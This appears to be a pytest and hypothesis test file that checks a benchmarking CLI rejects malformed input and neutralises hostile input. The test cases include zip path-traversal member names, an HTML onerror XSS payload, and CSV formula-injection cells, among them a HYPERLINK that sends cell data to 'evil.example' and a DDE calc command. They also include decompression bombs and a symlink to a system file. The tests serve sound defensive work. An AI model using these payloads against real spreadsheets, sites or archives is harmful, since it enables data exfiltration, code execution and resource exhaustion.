"""Bad input: every malformed configuration, preset, data root, archive or checkpoint ends in a one-line
BenchError that names what is wrong, never another exception (hypothesis property tests + examples)."""
from __future__ import annotations

import hashlib
import io
import os
import posixpath
import tempfile
import zipfile
from pathlib import Path
from unittest import mock

import numpy as np
import pytest
import torch
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from benchbackcompat.cli import main
from benchbackcompat.config import validate_model
from benchbackcompat.scenarios.kinds import SCENARIO_KINDS, NamedScenario
from benchbackcompat.data.registry import DatasetRequest, load_dataset
from benchbackcompat.data.sources import check_member
from benchbackcompat.store.checkpoint import checksum_path, load_checkpoint, save_checkpoint
from benchbackcompat.errors import BenchError, UnknownNameError
from benchbackcompat.execution.plugin_host import PluginHost
from benchbackcompat.execution.presets import load_preset, resolve_run
from benchbackcompat.execution.plan import check_names, make_plan

FAST = settings(max_examples=150, deadline=None, database=None, suppress_health_check=[HealthCheck.too_slow])
SLOW = settings(max_examples=40, deadline=None, database=None, suppress_health_check=[HealthCheck.too_slow])
HOST = PluginHost()


def assert_clean(call):
    """Run ``call``; it may succeed, or fail with a one-line BenchError and nothing else."""
    try:
        return call()
    except BenchError as error:
        message = str(error)
        assert message and "\n" not in message, message
        return error


# --- configurations -----------------------------------------------------------------------------------------

scalars = st.one_of(
    st.none(), st.booleans(), st.integers(-10**12, 10**12), st.floats(allow_nan=True, allow_infinity=True),
    st.text(max_size=12), st.sampled_from(["resnet18", "convnet-s", "embedded", "sgd", "cosine", "test", "open"]),
)
values = st.recursive(scalars, lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=6), inner, max_size=3),
                      max_leaves=6)
FIELDS = {
    "": ["description", "protocol", "eval_split", "metrics", "verification_pairs", "architectures", "old_fraction",
         "old_class_fraction", "num_models", "init", "num_tasks", "initial_class_fraction", "memory_per_class",
         "replacements", "pretrain_classes", "pretrain_architectures", "zoo", "weights", "pretrained", "new_train"],
    "data": ["name", "root", "num_classes", "train_per_class", "test_per_class", "image_size", "open_classes",
             "pretrain_classes", "class_order_seed", "eval_dataset"],
    "train": ["epochs", "batch_size", "optimizer", "lr", "momentum", "schedule", "milestones", "gamma", "warmup_epochs",
              "amp", "eval_batch_size", "crop_padding"],
    "model": ["backbone", "embedding_dim"],
}


@st.composite
def scenario_tables(draw) -> dict:
    """A scenario table: a kind (usually a real one) and a few known or misspelt fields with arbitrary values."""
    table = {"kind": draw(st.sampled_from(SCENARIO_KINDS) | st.text(max_size=8))}
    for _ in range(draw(st.integers(0, 4))):
        section = draw(st.sampled_from(list(FIELDS)))
        key = draw(st.sampled_from(FIELDS[section]) | st.text(min_size=1, max_size=8))
        value = draw(values)
        if section:
            table.setdefault(section, {})
            if isinstance(table[section], dict):
                table[section][key] = value
        else:
            table[key] = value
    if draw(st.booleans()):
        table[draw(st.sampled_from(["data", "train", "model"]))] = draw(values)  # a table replaced by a value
    return table


def validated(table: dict):
    return validate_model(NamedScenario, {"name": "s", "config": table}, "test").config


def plan_from_preset(preset: dict, methods=("l2",), assignments=()) -> object:
    with mock.patch("benchbackcompat.execution.presets.load_preset", return_value=preset):
        run = resolve_run(preset="generated", scenarios=list(preset["scenarios"])[:1], methods=list(methods),
                          assignments=list(assignments))
    return make_plan(run, PluginHost())


@FAST
@given(scenario_tables())
@example({"kind": "multi-step", "num_models": 10**9})
@example({"kind": "cl2r", "num_tasks": 3, "data": {"num_classes": 2}})
@example({"kind": "both", "architectures": ["convnet-s"]})
@example({"kind": "iam-cl2r", "replacements": [1]})
@example({"kind": "ext-data", "old_fraction": float("nan")})
def test_malformed_scenario_tables_fail_cleanly_before_training(table):
    assert_clean(lambda: plan_from_preset({"scenarios": {"s": table}}))


@FAST
@given(st.lists(st.builds(lambda k, v: f"{k}={v}",
                          st.sampled_from(["train.epochs", "train.lr", "data.num_classes", "model.backbone", "num_models",
                                           "methods.l2.weight", "methods.l2", "methods", "data", "train.", "..", ""]) | st.text(max_size=10),
                          st.text(max_size=10) | st.sampled_from(["0", "-1", "1e400", "nan", "[1,", "{}", "'x'", "true"])),
                max_size=3) | st.lists(st.text(max_size=12), max_size=2))
def test_malformed_set_assignments_fail_cleanly(assignments):
    preset = {"scenarios": {"s": {"kind": "multi-step", "num_models": 2, "data": {"num_classes": 4}}}}
    assert_clean(lambda: plan_from_preset(preset, assignments=assignments))


@pytest.mark.parametrize("protocol, metrics, fails", [("loo", ["top1"], True), ("template", ["map"], True),
                                                      ("loo", ["cmc@1", "map"], False), ("template", ["top1"], False)])
def test_a_metric_the_protocol_does_not_define_fails_before_training(protocol, metrics, fails):
    # the protocols' metrics as documented: loo/nn rank the gallery (CMC, mAP), template matches class templates (top-1)
    run = lambda: resolve_run(preset="quick", scenarios=["ext-class"], methods=["l2"],
                              assignments=[f"protocol={protocol!r}".replace("'", '"'), "metrics=" + str(metrics).replace("'", '"')])
    if fails:
        with pytest.raises(BenchError, match=f"not defined for protocol '{protocol}'; set metrics to some of"):
            run()
    else:
        assert run().scenarios[0].config.metrics == metrics


@FAST
@given(st.dictionaries(st.text(max_size=8) | st.sampled_from(["weight", "temperature"]), values, max_size=3),
       st.sampled_from(["l2", "er", "independent"]))
def test_malformed_hyperparameters_fail_cleanly(params, method):
    result = assert_clean(lambda: HOST.create_method(method, params))
    if isinstance(result, BenchError):
        assert f"hyperparameters of method {method!r}" in str(result)


@SLOW
@given(st.text(min_size=1, max_size=20))
@example("l3")
@example("embeded")
@example("resnet181")
def test_unknown_names_list_the_known_ones(name):
    scenario = {"kind": "multi-step", "num_models": 2, "data": {"num_classes": 4}}
    for kind, call in (("method", lambda: HOST.method_class(name)),
                       ("dataset", lambda: check_names(validated({**scenario, "data": {"name": name}}))),
                       ("backbone", lambda: check_names(validated({**scenario, "model": {"backbone": name}})))):
        result = assert_clean(call)
        if isinstance(result, UnknownNameError):
            assert result.kind == kind and result.name == name and result.known
            assert f"unknown {kind} {name!r}" in str(result) and "Known: " in str(result)


# --- preset files -------------------------------------------------------------------------------------------------

@FAST
@given(st.text(max_size=80).map(str.encode) | st.binary(max_size=40))
@example(b"[scenarios.x\nkind = 'both'")
@example(b"scenarios = 3")
@example(b"[scenarios]\nx = 1")
@example(b"[defaults]\n[scenarios.x]\nkind = 'both'\n[methods]\nl2 = 'heavy'")
@example(b"defaults = [1]\n[scenarios.x]\nkind = 'both'")
@example(b"[scenarios.x]\nkind = 'both'\nunknown_field = 1")
@example(b"\xff\xfe[scenarios.x]")
def test_malformed_preset_files_fail_cleanly(content):
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "preset.toml"
        path.write_bytes(content)
        data = assert_clean(lambda: load_preset(str(path)))
        if isinstance(data, dict):
            assert_clean(lambda: make_plan(resolve_run(preset=str(path), scenarios=list(data["scenarios"])[:1], methods=["l2"]),
                                           PluginHost()))


def test_preset_that_is_not_utf8_or_not_a_file(tmp_path):
    bad = tmp_path / "bad.toml"
    bad.write_bytes(b"\xff\xfe[scenarios.x]")
    with pytest.raises(BenchError, match="malformed preset"):
        load_preset(str(bad))
    (tmp_path / "dir.toml").mkdir()
    with pytest.raises(BenchError, match="does not exist|cannot read"):
        load_preset(str(tmp_path / "dir.toml"))


# --- the command line ---------------------------------------------------------------------------------------------

@SLOW
@given(st.text(min_size=1, max_size=12).filter(lambda s: not s.startswith("-")),
       st.text(min_size=1, max_size=12).filter(lambda s: not s.startswith("-")))
@example("bothh", "l2")
@example("both", "l3")
def test_cli_errors_are_one_line_with_exit_code_2(scenario, methods):
    with mock.patch("sys.stderr", new_callable=io.StringIO) as err, mock.patch("sys.stdout", new_callable=io.StringIO):
        code = main(["run", "--scenario", scenario, "--methods", methods, "--dry-run", "--out", os.devnull])
    assert code in (0, 2)
    if code == 2:
        lines = err.getvalue().strip().splitlines()
        assert len(lines) == 1 and lines[0].startswith("error: "), lines


# --- data roots and archives --------------------------------------------------------------------------------------

names = st.lists(st.sampled_from(["train", "test", "val", "wnids.txt", "a", "b.jpg", "images", "..", "x.zip"]),
                 min_size=1, max_size=4).map("/".join)


@settings(FAST, max_examples=100)
@given(st.lists(names, max_size=5), st.sampled_from(["imagefolder", "tinyimagenet", "cifar10-jpeg", "fashion-mnist", "cifar10"]),
       st.booleans())
def test_data_roots_without_the_expected_files_fail_cleanly(files, dataset, as_zip):
    """Random files and folders (empty or not-an-image content) under a data root, as a folder or a zip."""
    with tempfile.TemporaryDirectory() as folder:
        root = Path(folder) / "root"
        root.mkdir()
        if as_zip:
            with zipfile.ZipFile(root / "data.zip", "w") as archive:
                for name in files:
                    archive.writestr(name, b"not an image")
        else:
            for name in files:
                target = (root / name).resolve()
                try:
                    if root.resolve() in target.parents:
                        target.parent.mkdir(parents=True, exist_ok=True)
                        target.write_bytes(b"not an image")
                except OSError:  # a file where a folder is wanted or the reverse: keep what exists
                    pass
        request = DatasetRequest(cache_dir=Path(folder) / "cache", root=root, download=False)
        assert isinstance(assert_clean(lambda: load_dataset(dataset, request)), BenchError)


@FAST
@given(st.text(max_size=30) | st.lists(st.sampled_from(["..", ".", "a", "", "C:", "\\", "/"]), max_size=5).map("/".join))
@example("../evil.png")
@example("a/../../evil.png")
@example("/etc/passwd")
@example("C:\\Windows\\evil.dll")
@example("a\\..\\..\\evil")
def test_zip_member_names_either_stay_inside_or_are_refused(name):
    try:
        check_member(Path("data.zip"), name)
    except BenchError as error:
        assert "escaping the archive" in str(error) and "\n" not in str(error)
        return
    inside = posixpath.normpath(posixpath.join("/extract", name.replace("\\", "/")))
    assert inside == "/extract" or inside.startswith("/extract/")


def test_zip_with_a_member_escaping_the_extraction_dir_is_refused(tmp_path):
    archive = tmp_path / "evil.zip"
    with zipfile.ZipFile(archive, "w") as zf:
        zf.writestr("train/a/1.png", b"x")
        zf.writestr("test/a/1.png", b"x")
        zf.writestr("../../outside.png", b"x")
    with pytest.raises(BenchError, match=r"member path escaping the archive \('../../outside.png'\); refusing"):
        load_dataset("imagefolder", DatasetRequest(cache_dir=tmp_path / "cache", root=archive))
    assert not (tmp_path.parent / "outside.png").exists()


# --- checkpoints --------------------------------------------------------------------------------------------------

@FAST
@given(st.binary(max_size=300), st.integers(0, 10**6), st.booleans())
def test_any_bytes_with_a_valid_checksum_load_cleanly(noise, position, from_real):
    """Garbage (or a real checkpoint with bytes overwritten) whose checksum matches: refused or recomputed."""
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "step-0.pt"
        data = noise
        if from_real:
            save_checkpoint(path, {"model": {"w": torch.ones(3)}, "curve": [{"loss": 1.0}]})
            real = bytearray(path.read_bytes())
            start = position % len(real)
            real[start : start + len(noise)] = noise
            data = bytes(real)
        path.write_bytes(data)
        checksum_path(path).write_text(hashlib.sha256(data).hexdigest())
        result = assert_clean(lambda: load_checkpoint(path))
        assert result is None or isinstance(result, (dict, BenchError))


# --- results you can trust: the remaining gaps ----------------------------------------------------------------

FIXTURE_RECORDS = Path(__file__).parent / "fixtures" / "leaderboard_records.json"


def test_leaderboard_escapes_record_kinds_and_metric_names_and_skips_malformed_records(tmp_path, caplog):
    import json

    from benchbackcompat.store import ResultStore

    records = json.loads(FIXTURE_RECORDS.read_text())
    store = ResultStore(tmp_path / "results")
    attack = "<img src=x onerror=alert(1)>"
    for record in records:
        record = {**record, "kind": attack if record["kind"] == "multi-step" else record["kind"]}
        record["metrics"] = {(attack if m == "cmc@1" else m): v for m, v in record.get("metrics", {}).items()}
        record["matrices"] = {(attack if m == "cmc@1" else m): v for m, v in record.get("matrices", {}).items()}
        store.write_record(record["key"], record)
    bad = {**records[0], "key": "f" * 16, "metrics": {"cmc@1": {"AA": "not a number"}}, "seed": [0]}
    store.write_record(bad["key"], bad)
    assert main(["leaderboard", "--results", str(tmp_path / "results"), "--out", str(tmp_path / "board")]) == 0
    pages = "".join(p.read_text() for p in (tmp_path / "board").glob("*.md"))
    assert "<img" not in pages and "&lt;img" in pages
    assert [r.getMessage() for r in caplog.records if "malformed" in r.getMessage()] == [
        f"skipping a malformed record in {tmp_path / 'results'} (cell {'f' * 16!r}): seed: Input should be a "
        "valid integer"]


def test_set_for_a_method_not_in_methods_is_an_error():
    with pytest.raises(BenchError, match=r"method 'l3' is not among --methods \(l2\)"):
        resolve_run(preset="quick", scenarios=["both"], methods=["l2"], assignments=["methods.l3.weight=2"])


@pytest.mark.parametrize("name", ["../../x", "a/b", ".hidden", "x" * 65, "tab\tname"])
def test_scenario_names_that_would_make_unsafe_paths_are_refused(name, tmp_path):
    path = tmp_path / "p.toml"
    path.write_text(f'[scenarios."{name}"]\nkind = "both"\n'.replace("\t", "\\t"))
    with pytest.raises(BenchError, match="must be 1-64 letters") as info:
        load_preset(str(path))
    assert "\n" not in str(info.value)


def test_tensorboard_paths_stay_inside_the_log_folder():
    from benchbackcompat.observers.tensorboard import safe_part

    assert [safe_part(p) for p in ["..", ".", "", "a/b", "ok-1.2"]] == ["__", "_", "_", "a_b", "ok-1.2"]


@pytest.mark.parametrize("where", ["preset", "set"])
def test_deeply_nested_toml_is_one_line(where, tmp_path):
    deep = "[" * 3000 + "]" * 3000
    if where == "preset":
        path = tmp_path / "deep.toml"
        path.write_text(f'[scenarios.a]\nkind = "both"\nx = {deep}\n')
        call = lambda: load_preset(str(path))  # noqa: E731
    else:
        call = lambda: resolve_run(preset="quick", scenarios=["both"], methods=["l2"], assignments=[f"x={deep}"])  # noqa
    with pytest.raises(BenchError, match="nested more than 8 deep") as info:
        call()
    assert "\n" not in str(info.value)


def image_tree(root: Path, classes: int = 3) -> Path:
    from PIL import Image

    for split in ("train", "test"):
        for c in range(classes):
            folder = root / split / f"c{c}"
            folder.mkdir(parents=True)
            for i in range(2):
                Image.new("RGB", (8, 8), (40 * c, i, 0)).save(folder / f"{i}.jpg")
    return root


@pytest.mark.parametrize("damage", ["truncated", "truncated-scan", "not-an-image", "bomb", "symlink"])
def test_bad_image_files_and_degenerate_datasets_are_one_line_naming_the_file(damage, tmp_path):
    from PIL import Image

    root = image_tree(tmp_path / "tree")
    target = root / "train" / "c1" / "1.jpg"
    if damage == "truncated":  # inside the header
        target.write_bytes(target.read_bytes()[:60])
    elif damage == "truncated-scan":  # a valid header, the image data cut short
        noise = np.random.default_rng(0).integers(0, 256, (64, 64, 3), dtype=np.uint8)
        Image.fromarray(noise).save(target, quality=95)
        target.write_bytes(target.read_bytes()[: int(target.stat().st_size * 0.7)])
    elif damage == "not-an-image":
        target.write_bytes(b"<html>not found</html>")
    elif damage == "bomb":  # a few KB on disk, 64 megapixels decoded
        target.unlink()
        Image.new("L", (8000, 8000)).save(target.with_suffix(".png"))
    elif damage == "symlink":
        target.unlink()
        target.symlink_to("/etc/hostname")
    with pytest.raises(BenchError) as info:
        load_dataset("imagefolder", DatasetRequest(cache_dir=tmp_path / "cache", root=root))
    message = str(info.value)
    assert "\n" not in message
    assert ("train/c1/1.png" if damage == "bomb" else "train/c1/1.jpg") in message, message
    expected = {"bomb": "above the limit of 40 megapixels", "truncated-scan": "cannot decode"}
    assert expected.get(damage, "not a readable image") in message


def test_a_one_class_dataset_is_refused_before_training(tmp_path, monkeypatch, capsys):
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    root = image_tree(tmp_path / "tree", classes=1)
    preset = tmp_path / "p.toml"  # data.num_classes unset: every class of the folder
    preset.write_text('[scenarios.ms]\nkind = "multi-step"\nnum_models = 2\nprotocol = "loo"\neval_split = "test"\n'
                      '[scenarios.ms.data]\nname = "imagefolder"\n[scenarios.ms.train]\nepochs = 1\n')
    code = main(["run", "--out", str(tmp_path / "run"), "--preset", str(preset), "--scenario", "ms", "--methods", "l2",
                 "--data-root", str(root)])
    err = capsys.readouterr().err.strip().splitlines()
    assert code == 2 and err[-1].startswith("error: dataset 'imagefolder' has 1 class(es)"), err
    assert not list((tmp_path / "run").glob("cells/*/record.json*"))


def test_tinyimagenet_with_bad_annotations_names_the_line(tmp_path):
    root = tmp_path / "tiny"
    image_tree_root = root / "train" / "n01" / "images"
    image_tree_root.mkdir(parents=True)
    (root / "train" / "n02" / "images").mkdir(parents=True)
    from PIL import Image

    for wnid in ("n01", "n02"):
        Image.new("RGB", (8, 8)).save(root / "train" / wnid / "images" / "a.jpg")
    (root / "wnids.txt").write_text("n01\nn02\n")
    (root / "val" / "images").mkdir(parents=True)
    (root / "val" / "val_annotations.txt").write_text("v.jpg\tn01\nv2.jpg n03 garbage\n")
    with pytest.raises(BenchError, match=r"val_annotations.txt line 2 .* separated by a tab") as info:
        load_dataset("tinyimagenet", DatasetRequest(cache_dir=tmp_path / "cache", root=root))
    assert "\n" not in str(info.value)


def test_a_class_without_training_images_is_named(tmp_path):
    """E.g. a TinyImageNet wnid listed in wnids.txt whose train folder is empty."""
    from benchbackcompat.data import registry
    from benchbackcompat.data.arrays import DatasetBundle, ImageArrays

    bundle = DatasetBundle("x", ["a", "b", "c"], (0.0,) * 3, (1.0,) * 3, {
        "train": ImageArrays(torch.zeros(2, 3, 4, 4, dtype=torch.uint8), torch.tensor([0, 2])),
        "test": ImageArrays(torch.zeros(2, 3, 4, 4, dtype=torch.uint8), torch.tensor([0, 2]))})
    with pytest.raises(BenchError, match="class 'b' has no training images"):
        registry.check_not_degenerate("x", bundle, DatasetRequest(cache_dir=tmp_path))


def test_io_errors_are_one_line_naming_the_path(tmp_path, capsys):
    blocker = tmp_path / "a-file"
    blocker.write_text("")
    code = main(["run", "--out", str(blocker / "results"), "--scenario", "both", "--methods", "l2",
                 "--set", "data.num_classes=4", "--set", "train.epochs=1"])
    err = capsys.readouterr().err.strip().splitlines()
    assert code == 2 and err[-1].startswith("error: cannot access ") and str(blocker) in err[-1], err


# --- numbers too large for any run fail validation, naming the field ---------------------------------------------

HUGE = "99999999999999999999"  # 10^20: above every C integer a count or a seed becomes


@pytest.mark.parametrize("scenario, assignment", [
    ("ext-class", f"train.epochs={HUGE}"), ("ext-class", f"train.batch_size={HUGE}"),
    ("ext-class", f"train.eval_batch_size={HUGE}"), ("ext-class", f"train.min_steps={HUGE}"),
    ("ext-class", f"train.warmup_epochs={HUGE}"), ("ext-class", f"train.milestones=[{HUGE}]"),
    ("ext-class", "train.weight_decay=1e300"), ("ext-class", f"data.num_classes={HUGE}"),
    ("ext-class", f"data.image_size={HUGE}"), ("ext-class", f"data.seed={HUGE}"), ("ext-class", "data.seed=-1"),
    ("ext-class", f"model.embedding_dim={HUGE}"), ("ext-class", f"model.input_size={{convnet-s = {HUGE}}}"),
    ("ext-class", f"verification_pairs={HUGE}"), ("multi-step", f"num_models={HUGE}"),
    ("cl2r", f"memory_per_class={HUGE}"), ("iam-cl2r", f"pretrain_classes=[3, {HUGE}]"),
])
def test_a_huge_number_fails_before_training_in_one_line_naming_its_field(scenario, assignment, tmp_path, capsys):
    argv = ["run", "--preset", "quick", "--scenario", scenario, "--methods", "independent", "--set", assignment,
            "--dry-run", "--out", str(tmp_path / "run")]
    assert main(argv) == 2
    message = capsys.readouterr().err
    field = assignment.split("=")[0].replace("input_size", "input_size.convnet-s")
    assert message.count("\n") == 1 and f"{field}" in message and "than or equal to" in message, message


def test_a_huge_seed_fails_before_training_naming_the_seeds(tmp_path, capsys):
    argv = ["run", "--scenario", "ext-class", "--methods", "independent", "--seeds", f"0,{HUGE}", "--dry-run", "--out",
            str(tmp_path / "run")]
    assert main(argv) == 2
    assert "seeds.1: Input should be less than or equal to 4294967295" in capsys.readouterr().err


@pytest.mark.parametrize("option", ["--cell-timeout", "--lock-timeout"])
@pytest.mark.parametrize("value", ["inf", "1e300", "1e8"])
def test_a_timeout_beyond_the_timers_fails_before_training_in_one_line(option, value, tmp_path, capsys):
    argv = ["run", "--scenario", "ext-class", "--methods", "independent", option, value, "--dry-run", "--out", str(tmp_path / "run")]
    assert main(argv) == 2
    message = capsys.readouterr().err
    field = option[2:].replace("-", "_")
    assert message.count("\n") == 1 and f"{field}: Input should be less than or equal to 10000000" in message, message


def test_every_numeric_configuration_field_has_an_upper_bound():
    """Every int and float of the configuration models is bounded above (the learning rate alone may be inf: a run
    that diverges on purpose)."""
    import typing

    import annotated_types
    from pydantic.fields import FieldInfo

    from benchbackcompat import config

    def bounded(annotation, metadata) -> bool:
        constraints = [c for m in metadata for c in (m.metadata if isinstance(m, FieldInfo) else [m])]
        if any(isinstance(c, (annotated_types.Le, annotated_types.Lt)) for c in constraints):
            return True
        args = [a for a in typing.get_args(annotation) if a is not type(None)]
        if typing.get_origin(annotation) is typing.Annotated:
            return bounded(args[0], annotation.__metadata__)
        if args:  # a list, dict or optional: every number inside it is bounded
            return all(bounded(a, []) for a in args if numeric(a))
        return not numeric(annotation)

    def numeric(annotation) -> bool:
        if typing.get_origin(annotation) is typing.Annotated:
            return numeric(typing.get_args(annotation)[0])
        return annotation in (int, float) or any(numeric(a) for a in typing.get_args(annotation))

    models = [m for m in vars(config).values() if isinstance(m, type) and issubclass(m, config.StrictModel)]
    unbounded = {f"{m.__name__}.{name}" for m in models for name, field in m.model_fields.items()
                 if numeric(field.annotation) and not bounded(field.annotation, field.metadata)}
    assert unbounded == {"TrainConfig.lr"}


# --- CSV exports do not carry formulas into spreadsheets ------------------------------------------------------------

FORMULAS = {"independent": '=HYPERLINK("http://evil.example/?"&A1,"results")', "l2": "-2+3+cmd|' /C calc'!A0",
            "hoc": "@SUM(1+1)", "flat": "+A1*2", "unstable": "\t=1"}


def test_csv_exports_neutralise_formula_cells_and_keep_negative_numbers(tmp_path, capsys):
    import csv
    import json
    import math

    from benchbackcompat.store import ResultStore

    store = ResultStore(tmp_path / "results")
    for record in json.loads(FIXTURE_RECORDS.read_text()):
        store.write_record(record["key"], {**record, "method": FORMULAS.get(record["method"], record["method"])})
    assert main(["leaderboard", "--results", str(tmp_path / "results"), "--out", str(tmp_path / "board")]) == 0
    assert main(["export", str(tmp_path / "export.csv"), "--results", str(tmp_path / "results")]) == 0
    board = list(csv.DictReader((tmp_path / "board" / "leaderboard.csv").open(newline="")))
    export = list(csv.DictReader((tmp_path / "export.csv").open(newline="")))
    for rows in (board, export):
        methods = {row["method"] for row in rows}
        assert {"'" + name for name in FORMULAS.values()} <= methods  # shown as text, never run
        assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for row in rows for cell in row.values())
    # independent's P_com over seeds 0 and 1: ((10 - 30) / (40 - 30) + (12 - 30) / (42 - 30)) / 2 = -1.75, a number
    (p_com,) = [row for row in board if row["method"] == "'" + FORMULAS["independent"] and row["statistic"] == "p_com"]
    assert p_com["mean"] == "-1.75"
    (p_com,) = [row for row in export if row["method"] == "'" + FORMULAS["independent"] and row["statistic"] == "p_com"
                and row["seed"] == "0"]
    assert p_com["value"] == "-2.0"
    negative = [cell for row in board + export for cell in row.values() if cell.startswith("-")]
    assert negative and all(math.isfinite(float(cell)) for cell in negative)  # what still starts with "-" is a number


@pytest.mark.parametrize("damage", [b"\xff\xfe\x00bytes that are not UTF-8", b"not json", b'{"text": 1}', b"[]", b""])
def test_a_damaged_answers_cache_entry_is_discarded_and_asked_again(damage, tmp_path):
    from benchbackcompat.cli.answer_cache import cached_answer

    calls = []

    def answer():
        calls.append(1)
        return "the methods table", True

    assert cached_answer(tmp_path, ["list", "methods"], answer) == "the methods table"
    (entry,) = (tmp_path / "answers").iterdir()
    entry.write_bytes(damage)
    assert cached_answer(tmp_path, ["list", "methods"], answer) == "the methods table" and len(calls) == 2
    assert cached_answer(tmp_path, ["list", "methods"], answer) == "the methods table" and len(calls) == 2  # kept again


# --- decompression bombs and damaged archives ---------------------------------------------------------------------

def _tiny_png() -> bytes:
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", (4, 4), (1, 2, 3)).save(buffer, format="PNG")
    return buffer.getvalue()


def _zip_tree(path: Path) -> Path:
    """An ImageFolder zip: two classes, one train and one test image each."""
    files = {f"{split}/{c}/1.png": _tiny_png() for split in ("train", "test") for c in ("a", "b")}
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return path


def _peak_mib(call) -> tuple[float, object]:
    import tracemalloc

    tracemalloc.start()
    try:
        result = call()
    except BenchError as error:
        result = error
    finally:
        peak = tracemalloc.get_traced_memory()[1] / 2**20
        tracemalloc.stop()
    return peak, result


def test_a_zip_member_that_expands_beyond_the_bound_is_refused_by_name_before_it_is_unpacked(tmp_path):
    archive = tmp_path / "bomb.zip"
    _zip_tree(archive)
    with zipfile.ZipFile(archive, "a", compression=zipfile.ZIP_DEFLATED) as zf, zf.open("train/a/2.png", "w") as member:
        for _ in range(300):  # 300 MiB of zeros in about 300 KB
            member.write(bytes(2**20))
    peak, error = _peak_mib(lambda: load_dataset("imagefolder", DatasetRequest(cache_dir=tmp_path / "c", root=archive)))
    assert isinstance(error, BenchError) and "\n" not in str(error), error
    assert f"zip {archive}, member train/a/2.png: expands to 300 MiB, above the limit" in str(error)
    assert peak < 50, f"{peak:.0f} MiB held while refusing it"


def test_a_record_that_decompresses_beyond_the_bound_is_refused_unread_with_one_line(tmp_path, caplog):
    import gzip
    import json
    import zlib

    from benchbackcompat.store import ResultStore

    store = ResultStore(tmp_path)
    path = store.record_path("k" * 16)
    path.parent.mkdir(parents=True)
    packer = zlib.compressobj(9, zlib.DEFLATED, 16 + zlib.MAX_WBITS)  # gzip framing
    with path.open("wb") as file:
        for _ in range(200):  # 200 MiB of blanks, then a small JSON value: valid JSON once unpacked
            file.write(packer.compress(b" " * 2**20))
        file.write(packer.compress(json.dumps({"key": "k" * 16}).encode()) + packer.flush())
    assert path.stat().st_size < 2**20 and json.loads(gzip.decompress(path.read_bytes()))["key"] == "k" * 16
    peak, record = _peak_mib(lambda: store.record("k" * 16))
    assert record is None
    assert f"{path} holds more than 64 MiB of JSON, above the limit for a results file" in caplog.text
    assert peak < 100, f"{peak:.0f} MiB held while refusing it"


def _flip_member_byte(archive: Path, name: str) -> None:
    with zipfile.ZipFile(archive) as zf:
        info = zf.getinfo(name)
    data = bytearray(archive.read_bytes())
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)  # the member's compressed bytes
    data[start + info.compress_size // 2] ^= 0xFF
    archive.write_bytes(bytes(data))


@pytest.mark.parametrize("damage", ["flipped byte", "stored flipped byte", "annotated file missing"])
def test_a_damaged_or_incomplete_zip_names_the_archive_and_the_member_in_one_line(damage, tmp_path):
    archive = tmp_path / "data.zip"
    if damage == "annotated file missing":  # TinyImageNet: val_annotations.txt lists an image the zip lacks
        with zipfile.ZipFile(archive, "w") as zf:
            zf.writestr("tiny/wnids.txt", "n1\nn2\n")
            for wnid in ("n1", "n2"):
                zf.writestr(f"tiny/train/{wnid}/images/{wnid}_0.png", _tiny_png())
            zf.writestr("tiny/val/val_annotations.txt", "val_0.png\tn1\nval_1.png\tn2\n")
            zf.writestr("tiny/val/images/val_0.png", _tiny_png())
        dataset, member = "tinyimagenet", "tiny/val/images/val_1.png"
    else:
        _zip_tree(archive)
        member = "train/b/1.png"
        if damage == "stored flipped byte":  # stored, not compressed: only the CRC tells
            with zipfile.ZipFile(archive, "a", compression=zipfile.ZIP_STORED) as zf:
                zf.writestr("train/b/2.png", _tiny_png())
            member = "train/b/2.png"
        _flip_member_byte(archive, member)
        dataset = "imagefolder"
    with pytest.raises(BenchError) as caught:
        load_dataset(dataset, DatasetRequest(cache_dir=tmp_path / "cache", root=archive))
    message = str(caught.value)
    assert "\n" not in message and f"zip {archive}, member {member}: " in message, message


def test_an_image_size_the_memory_cannot_hold_fails_before_allocating_in_one_line(tmp_path):
    """data.image_size=4096 passes validation (the maximum) but asks for hundreds of GiB: refused with the estimate
    and the limit, run under a 16 GiB address-space limit so that an allocation before the check fails rather than
    swamping the machine."""
    import resource
    import subprocess
    import sys

    def limited() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (16 * 2**30, 16 * 2**30))

    argv = [sys.executable, "-m", "benchbackcompat", "run", "--scenario", "ext-class", "--methods", "independent",
            "--set", "data.image_size=4096", "--dry-run", "--out", str(tmp_path / "run")]
    done = subprocess.run(argv, capture_output=True, text=True, timeout=300, preexec_fn=limited, env=os.environ)
    assert done.returncode == 2 and done.stderr.count("\n") == 1, done.stderr[-2000:]
    assert "images of 3x4096x4096 pixels need" in done.stderr and "GiB of memory available" in done.stderr, done.stderr
